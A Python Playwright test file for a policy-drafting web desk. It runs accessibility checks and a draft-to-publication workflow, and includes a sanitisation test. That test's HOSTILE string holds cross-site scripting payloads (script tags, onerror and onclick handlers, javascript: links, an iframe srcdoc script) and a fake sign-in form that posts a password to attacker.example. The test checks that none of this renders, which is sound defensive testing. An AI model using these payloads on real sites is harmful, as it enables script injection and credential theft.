"""The whole story in a real browser: from the changes of a draft to a published version, as the people who do it."""

import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Page, expect

from consent_gate.gate import Gate
from desk import words
from policy_versions import Actor, ActorSource
from tests.desk.desk_server import decide_all, desk_at, example, open_at, settled, turn_to, work_as

AXE = {"runOnly": {"type": "tag", "values": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]}}
PAGES = ("", "draft", "compare", "review", "consent", "audit")
HOSTILE = """

## Hostile

<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">

<form action="https://attacker.example/take"><input name="password"><button>Sign in again</button></form>

[Read more](javascript:window.hacked=3) and <a href="javascript:window.hacked=4">here</a>.
We use your name for marketing <b onclick="window.hacked=5">now</b>.

<iframe srcdoc="<script>parent.hacked = 6</script>"></iframe>
"""


@pytest.fixture(scope="module")
def laid_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return example(tmp_path_factory.mktemp("desk"))


@pytest.fixture(scope="module")
def desk(laid_out: Path) -> Iterator[str]:
    with desk_at(laid_out, RECONSENT_ONE_PERSON="true") as address:
        yield address


def opened(folder: Path) -> Gate:
    return Gate.open(f"sqlite:///{folder / 'ledger.db'}", folder / "archive", keys=folder / "keys")


# Streamlit's own drop zone is a `section` with role=presentation that can take the focus: no criterion of A or AA, a best practice.
OF_THE_LIBRARY = ("presentation-role-conflict", "stFileUploaderDropzone")


def violations(page: Page) -> list[tuple[str, list[str]]]:
    found = Axe().run(page, options=AXE).response["violations"]
    all_of_them = [(one["id"], [node["html"][:160] for node in one["nodes"]]) for one in found]
    rule, place = OF_THE_LIBRARY
    return [(id_, nodes) for id_, nodes in all_of_them if id_ != rule or any(place not in node for node in nodes)]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_on_any_page(desk: str, page: Page, scheme: str) -> None:
    page.emulate_media(color_scheme=scheme)
    problems = {}
    for name in PAGES:
        open_at(page, desk, name)
        page.wait_for_timeout(1000)  # charts and tables draw themselves after the script has ended
        if found := violations(page):
            problems[name or "policies"] = found
        for tab in page.get_by_role("tab").all():
            tab.click()
            settled(page)
            if found := violations(page):
                problems[f"{name}: {tab.inner_text()}"] = found
    assert problems == {}


def test_a_hostile_draft_runs_nothing(laid_out: Path, desk: str, page: Page) -> None:
    with opened(laid_out) as gate:
        author = Actor("eve@orchardlane.example", ActorSource.CLAIMED)
        draft = gate.archive.start_draft("privacy", "hostile", actor=author)
        text = draft.files["en.md"].decode() + HOSTILE
        draft = gate.archive.save(
            "privacy", "hostile", {"en.md": text.encode()}, expected=draft.commit, actor=author, message="Add a section"
        )
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    try:
        for name in ("draft", "review", ""):
            open_at(page, desk, f"{name}?draft=hostile")
            for tab in page.get_by_role("tab").all():
                tab.click()
                settled(page)
            main = page.get_by_test_id("stMain")
            assert main.locator("script").count() == 0
            assert main.locator('iframe[srcdoc*="parent.hacked"]').count() == 0
            assert main.locator("form[action], input[name=password]").count() == 0
            assert main.locator('a[href^="javascript:"], [onclick], [onerror]').count() == 0
            for frame in page.frames:
                assert frame.evaluate("window.hacked") is None
                assert frame.locator("input[name=password], a[href^='javascript:'], [onclick], [onerror]").count() == 0
    finally:
        with opened(laid_out) as gate:
            gate.archive.delete_draft("privacy", "hostile", expected=draft.commit)
    assert {urlsplit(url).hostname for url in asked if url.startswith("http")} == {"127.0.0.1"}


def test_a_draft_is_read_decided_approved_and_published(tmp_path: Path, page: Page) -> None:
    folder = example(tmp_path / "story")
    with desk_at(folder, RECONSENT_ONE_PERSON="true") as address:
        open_at(page, address, "")
        work_as(page, words.WORKING_AS, "noor@orchardlane.example")
        turn_to(page, words.DRAFT)
        expect(page.get_by_text("We keep browsing for").last).to_be_visible()
        turn_to(page, words.REVIEW)
        decide_all(page, folder, Actor("mara@orchardlane.example"))
        expect(page.get_by_text(words.NOTHING_TO_DECIDE)).to_be_visible()
        work_as(page, words.WORKING_AS, "tomas@orchardlane.example")
        page.get_by_role("button", name=words.APPROVE, exact=True).click()
        settled(page)
        expect(page.get_by_text(words.APPROVED_BY.format(names="tomas@orchardlane.example"))).to_be_visible()
        page.get_by_role("button", name=words.PUBLISH, exact=True).click()
        dialog = page.get_by_role("dialog")
        expect(dialog.get_by_text("privacy@5")).to_be_visible()
        assert violations(page) == []
        dialog.get_by_role("button", name=words.PUBLISH_FINALLY).click()
        expect(page.get_by_text(re.compile("^Published privacy@5, in force from"))).to_be_visible()
        turn_to(page, words.POLICIES)
        with opened(folder) as gate:
            newest = gate.ledger.versions("privacy")[-1]
            assert newest.name == "privacy@5"
            assert newest.policy.permission("maker-browsing") is not None
            assert newest.texts["en"].count("two years") == 1
        assert page.get_by_text("privacy@5").count() > 0
